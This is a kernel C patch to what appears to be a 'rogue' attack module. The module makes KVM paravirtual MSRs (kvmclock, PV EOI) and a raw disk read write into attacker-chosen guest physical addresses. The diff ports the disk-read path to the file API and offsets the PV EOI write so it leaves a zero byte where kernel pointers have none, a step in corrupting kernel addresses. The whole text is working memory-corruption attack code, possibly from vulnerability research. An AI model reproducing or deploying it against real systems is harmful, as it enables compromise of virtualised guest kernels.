@@ -154,7 +154,7 @@ static int share_with_kvm(u32 msr, u64 value)
 /* The disk is told where to write; that it could not is not told. */
 static int read_disk(u64 gpa)
 {
-	struct block_device *disk = blkdev_get_by_path("/dev/vda", FMODE_READ, NULL);
+	struct file *disk = filp_open("/dev/vda", O_RDONLY, 0);
 	struct bio_vec vec;
 	struct bio bio;
 	int ret;
@@ -163,12 +163,12 @@ static int read_disk(u64 gpa)
 		return PTR_ERR(disk);
 
 	gpa = round_down(gpa, ROGUE_SECTOR);
-	bio_init(&bio, disk, &vec, 1, REQ_OP_READ);
+	bio_init(&bio, I_BDEV(disk->f_mapping->host), &vec, 1, REQ_OP_READ);
 	__bio_add_page(&bio, pfn_to_page(gpa >> PAGE_SHIFT), ROGUE_SECTOR,
 		       offset_in_page(gpa));
 	ret = submit_bio_wait(&bio);
 	bio_uninit(&bio);
-	blkdev_put(disk, FMODE_READ);
+	filp_close(disk, NULL);
 	return ret;
 }
 
@@ -232,7 +232,9 @@ static int make_attack(struct rogue_attack *attack)
 	case ROGUE_KVMCLOCK:
 		return share_with_kvm(MSR_KVM_SYSTEM_TIME_NEW, attack->gpa | 1);
 	case ROGUE_PV_EOI:
-		return share_with_kvm(MSR_KVM_PV_EOI_EN, attack->gpa | 1);
+		/* It leaves a byte of 0, which the upper half of a kernel address has not. */
+		return share_with_kvm(MSR_KVM_PV_EOI_EN,
+				      (attack->gpa + sizeof(u32)) | 1);
 	case ROGUE_DISK:
 		return read_disk(attack->gpa);
 	case ROGUE_LOAD:
